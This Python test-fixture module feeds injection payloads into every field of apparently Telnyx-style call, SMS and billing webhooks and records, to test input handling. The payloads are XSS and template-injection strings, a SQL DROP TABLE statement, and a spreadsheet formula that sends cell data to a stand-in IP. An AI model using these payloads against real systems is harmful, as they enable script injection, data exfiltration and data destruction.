"""What somebody could put into every text that reaches the book, and the webhooks and records that carry it."""

import json
from datetime import datetime, timedelta
from typing import Any

HOSTILE_TEXTS = {
    "markup": '"><img src=x onerror=alert(1)><script>alert(2)</script></textarea>',
    "address": "javascript:alert(1)//{{ 7 * 7 }}${7*7}<!--' onfocus='alert(3)' autofocus x='",
    "formula": '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
    "sql": "'; DROP TABLE telnyx_billing; --",
}

_CALL_S = 61


def hostile_webhooks(text: str, now: datetime) -> list[tuple[str, str]]:
    """One call with a cost and one message, as (product, body): every text in them is `text`, the ids begin with it."""
    ids = {
        "call_control_id": f"{text} control",
        "call_leg_id": f"{text} leg",
        "call_session_id": f"{text} session",
    }
    start, end = now - timedelta(seconds=_CALL_S + 5), now - timedelta(seconds=5)
    call = {
        **ids,
        **dict.fromkeys(("from", "to", "direction", "state", "client_state", "connection_id"), text),
        "tags": [text],
        "start_time": start.isoformat(),
    }
    hangup = {
        **call,
        "end_time": end.isoformat(),
        **dict.fromkeys(("hangup_cause", "hangup_source", "sip_hangup_cause"), text),
    }
    part = {"call_part": text, "cost": "0.0031", "rate": text, "currency": "USD", "billed_duration_secs": 120}
    cost = {**ids, "cost_parts": [part], "total_cost": "0.0031", "status": text, "billed_duration_secs": 120}
    message = {
        "id": f"{text} message",
        "direction": "outbound",
        "from": {"phone_number": text, "carrier": text},
        "to": [{"phone_number": text, "status": text}],
        "text": text,
        "type": text,
        "cost": {"amount": "0.0051", "currency": "USD"},
        "completed_at": end.isoformat(),
        "errors": [{"code": text, "title": text}],
    }
    return [
        ("calls", _event("call.initiated", text, start, call)),
        ("calls", _event("call.answered", text, start, call)),
        ("calls", _event("call.hangup", text, end, hangup)),
        ("calls", _event("call.cost", text, end, cost)),
        ("calls", _event(text, text, end, call)),
        ("sms", _event("message.finalized", text, end, message)),
    ]


def hostile_records(text: str, now: datetime) -> list[tuple[str, dict[str, Any]]]:
    """Detail records of that call, of another message, and of something else, as (record type, fields)."""
    start = now - timedelta(seconds=_CALL_S + 5)
    texts = ("country_code", "rate_measured_in", "connection_id", "billing_group_id", "direction", "status")
    common = {
        **dict.fromkeys((*texts, "cli", "cld", "carrier", "model", "message_type"), text),
        "tags": [text],
        "cost": "0.0042",
        "rate": "0.0021",
        "currency": "USD",
        "call_sec": _CALL_S,
        "billed_sec": 120,
        "is_telnyx_billable": True,
        "started_at": start.isoformat(),
        "created_at": start.isoformat(),
    }
    session = {"telnyx_session_id": f"{text} session"}
    return [
        ("sip-trunking", {**common, **session, "id": f"{text} 1", "call_control_id": f"{text} control"}),
        ("call-control", {**common, **session, "id": f"{text} 2", "telnyx_leg_id": f"{text} leg"}),
        ("recording", {**common, **session, "id": f"{text} 3", "cost": text}),
        ("messaging", {**common, "uuid": f"{text} 4", "direction": "inbound"}),
        ("inference", {**common, "id": f"{text} 5", "conversation_id": text}),
    ]


def _event(event_type: str, text: str, at: datetime, payload: dict[str, Any]) -> str:
    return json.dumps(
        {
            "data": {
                "record_type": "event",
                "event_type": event_type,
                "id": f"{text} {event_type}",
                "occurred_at": at.isoformat(),
                "payload": payload,
            }
        }
    )
